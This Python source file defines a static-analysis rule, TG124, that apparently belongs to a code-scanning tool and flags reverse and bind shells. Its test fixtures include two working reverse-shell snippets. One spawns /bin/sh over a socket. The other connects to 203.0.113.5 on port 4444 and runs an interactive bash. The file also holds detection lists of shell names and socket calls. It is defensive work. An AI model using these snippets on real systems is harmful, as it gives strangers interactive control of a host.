"""TG124: a shell whose standard input and output are a network socket (a reverse or bind shell)."""

from __future__ import annotations

import ast

from tabguard.engine.rule import Invalid, Rule
from tabguard.rules.injection import last_names
from tabguard.rules.injection._shell import LAUNCHERS, SHELL_STRING_CALLS, is_shell_program, launched

_SOCKET_CALLS = frozenset({"socket.socket", "socket.create_connection", "socket.create_server", "socket.fromfd"})
_STD_STREAMS = ("stdin", "stdout", "stderr")
_SHELL_WORDS = frozenset({"sh", "bash", "zsh", "dash", "ksh", "cmd", "cmd.exe", "powershell", "pwsh"})


def _spawned_program(call: ast.Call, callee: str, ctx) -> str | None:
    """The interpreter a call starts (`/bin/sh`, `bash -i`, `python`), else None."""
    launch = launched(call, callee, ctx)
    if launch is not None and is_shell_program(launch[0]):
        return launch[0].value
    if callee in SHELL_STRING_CALLS:
        command = ctx.argument(call, 0, "command")
        if isinstance(command, ast.Constant) and isinstance(command.value, str) and command.value.split():
            first = command.value.split()[0]
            return first if first.rsplit("/", 1)[-1] in _SHELL_WORDS else None
    return None


def _is_fileno(expr: ast.AST) -> bool:
    return isinstance(expr, ast.Call) and isinstance(expr.func, ast.Attribute) and expr.func.attr == "fileno"


class SocketShell(Rule):
    id = "TG124"
    name = "socket-shell"
    severity = "critical"
    confidence = "high"
    cwe = (506, 78)
    owasp = "A08:2025"
    message = "`{program}` is started with its input and output wired to a network socket (a remote shell)"
    placeholders = {"program": "/bin/sh"}
    aliases = ()
    call_names = last_names(SHELL_STRING_CALLS) | LAUNCHERS
    what = (
        "The code opens a socket, copies the socket onto the process's standard input and output "
        "(`os.dup2(s.fileno(), 0)` or `stdin=s.fileno()`), and starts `{program}`: whoever is at the "
        "other end types commands into a shell on this machine."
    )
    why = (
        "This is the classic reverse shell, the payload attackers plant to get interactive access. "
        "It has no place in application code; in a suggestion it signals a poisoned prompt, a "
        "compromised rules file or a malicious package, and running it hands the host to a stranger."
    )
    how = (
        "Remove it. If remote administration is really needed, use SSH with key authentication; for a "
        "debugging console, bind it to localhost and require authentication."
    )
    example = 'subprocess.run(["ssh", "-i", KEY_PATH, "admin@bastion.internal"], check=True)'
    references = (
        "https://cwe.mitre.org/data/definitions/506.html",
        "https://attack.mitre.org/techniques/T1059/006/",
    )
    VALID = (
        'import pty\npty.spawn("/bin/bash")\n',
        'import os, subprocess\ndef run(log):\n    os.dup2(log.fileno(), 1)\n    subprocess.call(["/bin/sh", "-c", "make"])\n',
        'import socket, subprocess\ndef serve(conn):\n    out = subprocess.run(["uptime"], capture_output=True).stdout\n    conn.sendall(out)\n',
    )
    INVALID = (
        Invalid(
            "import os, pty, socket\ndef connect(host, port):\n    s = socket.socket()\n    s.connect((host, port))\n"
            '    for fd in (0, 1, 2):\n        os.dup2(s.fileno(), fd)\n    pty.spawn("/bin/sh")\n'
        ),
        Invalid(
            'import socket, subprocess\ndef connect():\n    s = socket.create_connection(("203.0.113.5", 4444))\n'
            '    subprocess.call(["/bin/bash", "-i"], stdin=s.fileno(), stdout=s.fileno(), stderr=s.fileno())\n'
        ),
    )

    def visit_Call(self, node: ast.Call, ctx) -> None:
        callee = ctx.call_name(node) or ""
        program = _spawned_program(node, callee, ctx)
        if program is None:
            return
        wired = any(k.arg in _STD_STREAMS and _is_fileno(k.value) for k in node.keywords)
        uses_socket = False
        for other in ctx.scope_nodes():
            if isinstance(other, ast.Call):
                name = ctx.call_name(other) or ""
                uses_socket = uses_socket or name in _SOCKET_CALLS
                wired = wired or (name == "os.dup2" and bool(other.args) and _is_fileno(other.args[0]))
        if wired and uses_socket:
            ctx.report(self, node, details={"program": program})
